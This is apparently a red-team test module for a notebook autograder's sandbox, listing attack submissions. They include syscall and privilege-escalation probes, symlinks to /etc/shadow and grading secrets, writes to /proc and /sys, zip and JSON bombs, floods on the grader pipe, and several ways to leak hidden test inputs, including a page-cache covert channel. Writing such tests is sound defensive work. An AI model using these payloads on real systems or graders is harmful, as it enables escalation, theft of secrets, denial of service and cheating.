"""Attacks on the wall itself: the kernel, links and archives, the pipe to the grader, hidden inputs."""

import gzip
import io
import zipfile
from pathlib import PurePath

from ..corpus import ALL, Aim, Handin, Link, Work, attack
from ..snippets import LETTERS, LOOK, TRY


@attack(Aim.HARM)
def kernel_interfaces(work: Work) -> None:
    """System calls with a history: namespaces, mounts, tracing, keys, BPF, io_uring, memory of others."""
    work.last(f"""{TRY}calls = {{'unshare': (272, 0x10000000), 'mount': (165, 0, 0, 0, 0, 0), 'chroot': (161, b'/tmp'), 'setns': (308, 0, 0), 'ptrace': (101, 0, 0, 0, 0), 'keyctl': (250, 0, -3, 1), 'add_key': (248, b'user', b'x', b'y', 1, -3), 'bpf': (321, 0, 0, 0), 'perf': (298, 0, 0, -1, -1, 0), 'userfaultfd': (323, 1), 'io_uring': (425, 1, 0), 'memfd': (319, b'x', 0), 'shmget': (29, 0, 4096, 0o1600), 'msgget': (68, 0, 0o1600), 'pivot_root': (155, b'/', b'/'), 'open_by_handle': (304, -1, 0, 0), 'process_vm_readv': (310, 1, 0, 0, 0, 0, 0), 'syslog': (103, 3, 0, 0), 'personality': (135, 0x0040000), 'fanotify': (300, 0, 0), 'kexec': (246, 0, 0, 0, 0), 'settime': (227, 0, 0), 'aio': (206, 9, (ctypes.c_ulong * 1)()), 'inotify': (294, 0), 'sync': (162,), 'syncfs': (306, 1), 'ioprio': (251, 2, 0, 24576), 'priority of the group': (141, 1, 0, 19), 'membarrier': (324, 1, 0, 0), 'affinity': (203, 0, 8, b'1234567' + bytes(1)), 'death signal': (157, 1, 0), 'queue': (240, b'redteam', 66, 384, 0), 'locked memory': (151, 2), 'huge pages': (9, 0, 1 << 21, 3, 262178, -1, 0), 'clone': (56, 32785, 0), 'x32': (1 << 30 | 39,)}}
for name, call in calls.items():
    attempt(name, lambda: libc.syscall(*call))""")


@attack(Aim.LEAK)
def page_cache(work: Work) -> None:
    """The page cache is asked, filled and emptied: files of the machine are bits that a later submission reads."""
    work.last(f"""{TRY}import mmap
file = open(sys.executable, 'rb'); number = file.fileno(); pages = mmap.mmap(number, 4096, access=mmap.ACCESS_COPY)
attempt('nowait', lambda: os.preadv(number, [bytearray(9)], 0, os.RWF_NOWAIT))
attempt('fadvise', lambda: os.posix_fadvise(number, 0, 0, os.POSIX_FADV_DONTNEED) or True)
for advice in (3, 20, 21, 22): attempt(advice, lambda: pages.madvise(advice) or True)
for call in ((27, ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(pages))), 1, bytes(1)), (187, number, 0, 9), (277, number, 0, 0, 0)):
    attempt(call[0], lambda: libc.syscall(*call) == 0)""")


@attack(Aim.DENIAL)
def leases(work: Work) -> None:
    """Leases, notifications and locks on files and folders of the environment, for which others wait then."""
    work.last(f"""{TRY}import fcntl, glob
for path in (sys.executable, '/usr/bin/env', *glob.glob('/opt/course/*/*.py')[:20], '/opt/course/inside', sys.prefix):
    file = os.open(path, os.O_RDONLY)
    for command, value in ((1024, 0), (1024, 1), (1026, 1), (8, os.getpid()), (10, 9), (37, bytes(32)), (1036, bytes(8))):
        attempt((path, command), lambda: fcntl.fcntl(file, command, value) or True)
    attempt((path, 'lock'), lambda: fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB) or True)""")


@attack(Aim.HARM)
def more_rights(work: Work) -> None:
    """Another user, capabilities, higher limits, better priority, a setuid program."""
    work.last(f"""{TRY}import resource, subprocess
attempt('setuid', lambda: os.getuid() != 0 and (os.setuid(0) or True))
attempt('nice', lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) or True)
attempt('realtime', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or True)
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
    attempt(kind, lambda: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2) or True)
for command in ('sudo -n id', 'su -c id', 'mount -t tmpfs x /tmp', 'unshare -U id', 'newgrp root -c id'):
    attempt(command, lambda: subprocess.run(command, shell=True, capture_output=True, stdin=-3).returncode == 0)""")


@attack(Aim.HARM)
def kernel_settings(work: Work) -> None:
    """Settings of the kernel, the scheduler and the out-of-memory killer are written."""
    work.last(f"""{TRY}import glob
for path in ['/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/proc/sys/kernel/hostname',
             '/sys/fs/cgroup/cgroup.procs', *glob.glob('/sys/kernel/*')[:20]]:
    attempt(path, lambda: open(path, 'r+'))
attempt('map', lambda: os.write(os.open('/proc/self/uid_map', os.O_WRONLY), b'0 0 1'))
attempt('oom', lambda: open('/proc/self/oom_score_adj', 'w').write('-1000') and int(open('/proc/self/oom_score_adj').read()) < 0)""")


@attack(Aim.HARM)
def typed_into_the_terminal(work: Work) -> None:
    """Characters are typed into the instructor's terminal."""
    work.last(f"""{TRY}import fcntl
for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/tty1', '/dev/ptmx'):
    attempt(path, lambda: fcntl.ioctl(open(path, 'r+b', 0), 0x5412, b'x') and True)""")


@attack(Aim.HARM)
def links_in_the_folder(work: Work) -> None:
    """Symbolic and hard links from the working directory to what must not be read or changed."""
    work.last(f"""{LOOK}for number, target in enumerate(('/etc/shadow', '/root', '/proc/1/root', '../../../.course-seed', '/opt/course')):
    try: os.symlink(target, f'link-{{number}}'); look(f'link-{{number}}', f'link-{{number}}/.course-seed')
    except OSError: pass
for path in ('/usr/bin/env', '/opt/course/inside/jail.py', '../../../.course-seed'):
    try: os.link(path, 'hard'); print('BRE' 'ACH', path)
    except OSError: pass""")


@attack(Aim.LEAK, ungradable=True)
def linked_submission(work: Work) -> Handin:
    """The file that is handed in is a link to the solutions."""
    return {"hw14.ipynb": Link(PurePath("build/source/hw14/hw14.ipynb"))}


@attack(Aim.LEAK)
def linked_neighbours(work: Work) -> Handin:
    """Links to the seed and the gradebook beside an honest notebook, to be copied along."""
    return {
        "hw14.ipynb": work.bytes(),
        "data.txt": Link(PurePath(".course-seed")),
        "timestamp.txt": Link(PurePath("course.toml")),
        "book.db": Link(PurePath("gradebook.db")),
    }


@attack(Aim.DENIAL, ungradable=True)
def zip_bomb(work: Work) -> bytes:
    """An archive that unpacks to a gigabyte, under a notebook's name."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(16):
            archive.writestr(f"../../../../tmp/redteam-zip-{number}", bytes(1 << 26))
    return packed.getvalue()


@attack(Aim.DENIAL, ungradable=True)
def gzip_bomb(work: Work) -> bytes:
    """A compressed notebook of a quarter of a gigabyte."""
    return gzip.compress(b'{"cells": [' + b" " * (1 << 28), 9)


@attack(Aim.DENIAL, ungradable=True)
def million_lists(work: Work) -> bytes:
    """Twenty megabytes of notebook that take gigabytes in memory."""
    return b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [' + b"{}," * 6_000_000 + b"{}]}"


@attack(Aim.DENIAL, hurts=ALL)
def garbage_on_the_pipe(work: Work) -> None:
    """Bytes that are no frames, lengths that are lies, JSON that is too deep, arrays that are not there."""
    work.last(r"""import gc, struct
for stream in [each for each in gc.get_objects() if type(each).__name__ == 'Stream']:
    for text in (b'[' * 100_000, b'["reply", {"value": {"$array": "9"}}]', b'\xff' * 99, b'[1e999, NaN]'):
        stream.sock.sendall(struct.pack('>II', len(text) + 4, len(text)) + text)
    stream.sock.sendall(struct.pack('>II', 50, 4_000_000_000) + b'x' * 46)""")


@attack(Aim.DENIAL, hurts=ALL)
def replies_that_swell(work: Work) -> None:
    """Replies of three megabytes each that become a hundred in the grader's memory, for every question asked."""
    work.last("""import sys, struct
wire = sys.modules.get('inside.wire')
if wire:
    real = wire.pack
    body = b'["reply", {"outcome": "ok", "value": {"a": [' + b'[],' * 990_000 + b'[]]}}]'
    frame = struct.pack('>II', len(body) + 4, len(body)) + body
    wire.pack = lambda kind, tree: frame if kind == 'reply' else real(kind, tree)""")


@attack(Aim.DENIAL, hurts=ALL)
def errors_that_swell(work: Work) -> None:
    """Replies whose errors have a hundred thousand fields, and fields that are no text."""
    work.last("""import sys
wire = sys.modules.get('inside.wire')
if wire:
    real = wire.pack
    error = {str(n): 'x' for n in range(100_000)} | {'type': [[['x'] * 100_000]], 'message': {'a': 1}}
    wire.pack = lambda kind, tree: real(kind, {'outcome': 'error', 'error': error} if kind == 'reply' else tree)""")


@attack(Aim.DENIAL)
def descriptors_to_the_grader(work: Work) -> None:
    """Open files are passed to the grader through the pipe, until it has no room for more."""
    work.last(r"""import gc, socket, os
for stream in [each for each in gc.get_objects() if type(each).__name__ == 'Stream']:
    null = os.open('/dev/null', 0)
    frame = b'\x00\x00\x00\x12\x00\x00\x00\x0e["output", {}]'
    for _ in range(50): socket.send_fds(stream.sock, [frame], [null] * 20)""")


@attack(Aim.LEAK, ["permutation"])
def inputs_in_an_error_message(work: Work) -> None:
    """The hidden inputs come out letter by letter in the message of an exception."""
    work["permutation"] = f"""{LETTERS}def permute(images, permutation):
    raise ValueError(letters(images) + ' ' + letters(permutation))"""


@attack(Aim.LEAK, ["permutation"])
def inputs_in_a_type_name(work: Work) -> None:
    """… in the name of an exception's type."""
    work["permutation"] = f"""{LETTERS}def permute(images, permutation):
    raise type(letters(images), (Exception,), {{}})()"""


@attack(Aim.LEAK, ["permutation"])
def inputs_in_an_object(work: Work) -> None:
    """… in the name of the type of what is returned, and in keys."""
    work["permutation"] = (
        LETTERS + "def permute(images, permutation):\n    kind = type(letters(images), (), {})\n    return kind()"
    )


@attack(Aim.LEAK, ["ewc"])
def inputs_in_keys(work: Work) -> None:
    """… in the keys of a dict that is returned."""
    work["ewc"] = f"""{LETTERS}class EWC(QuadraticPenalty):
    def importance(self, model, batches):
        images, labels = next(iter(batches))
        right = {{name: torch.zeros_like(p) for name, p in model.named_parameters()}}
        return {{**right, letters(images): torch.zeros(1)}}"""


@attack(Aim.LEAK, ["permutation"])
def inputs_in_a_line_of_code(work: Work) -> None:
    """… in the line of the traceback, which is read from a cache that can be written."""
    work["permutation"] = f"""{LETTERS}import linecache
def permute(images, permutation):
    line = letters(images)
    for name in list(linecache.cache):
        linecache.cache[name] = (99, None, [line + chr(10)] * 99, name)
    linecache.checkcache = lambda *a: None
    1 / 0"""


@attack(Aim.LEAK, ["permutation"])
def inputs_by_way_of_a_file(work: Work) -> None:
    """… through a file and a thread that prints it later, in another cell's output."""
    work["permutation"] = f"""{LETTERS}import threading, time, os
def later():
    while not os.path.exists('/tmp/redteam-inputs'): time.sleep(0.02)
    while True: print(open('/tmp/redteam-inputs').read()); time.sleep(0.05)
threading.Thread(target=later, daemon=True).start()
def permute(images, permutation):
    open('/tmp/redteam-inputs', 'a').write(letters(images))
    raise ValueError(open('/tmp/redteam-inputs').read())"""


@attack(Aim.LEAK, ["permutation"])
def inputs_of_an_earlier_question(work: Work) -> None:
    """… through the process's parent, whose memory the question's fork can write."""
    work["permutation"] = f"""{LETTERS}import mmap
kept = mmap.mmap(-1, 4096)
def permute(images, permutation):
    before = kept[:24]
    kept[:24] = letters(images).encode()
    raise ValueError((before if before.strip(bytes(1)) else kept[:24]).decode())"""


@attack(Aim.LEAK, ["permutation"])
def inputs_by_way_of_the_page_cache(work: Work) -> None:
    """… through files of the machine, in memory or not, to a process that was asked nothing hidden and is quoted."""
    work["permutation"] = f"""{LETTERS}import glob, os
files = [path for path in sorted(glob.glob('/usr/share/*/*/*')) if os.path.isfile(path) and os.path.getsize(path) > 4095][:64]
def bit(path, value):
    file = os.open(path, os.O_RDONLY)
    try: return 1, (os.preadv(file, [bytearray(9)], 0, os.RWF_NOWAIT) if value is None else os.posix_fadvise(file, 0, 0, 3 if value else 4))
    except OSError: return 0, None
    finally: os.close(file)
def permute(images, permutation):
    heard = ''.join(str(bit(path, None)[0]) for path in files)
    for path, value in zip(files, ''.join(f'{{ord(letter) - 97:04b}}' for letter in letters(images)[:16])): bit(path, int(value))
    raise ValueError(''.join(chr(97 + int(heard[at:at + 4], 2)) for at in range(0, 64, 4)))"""
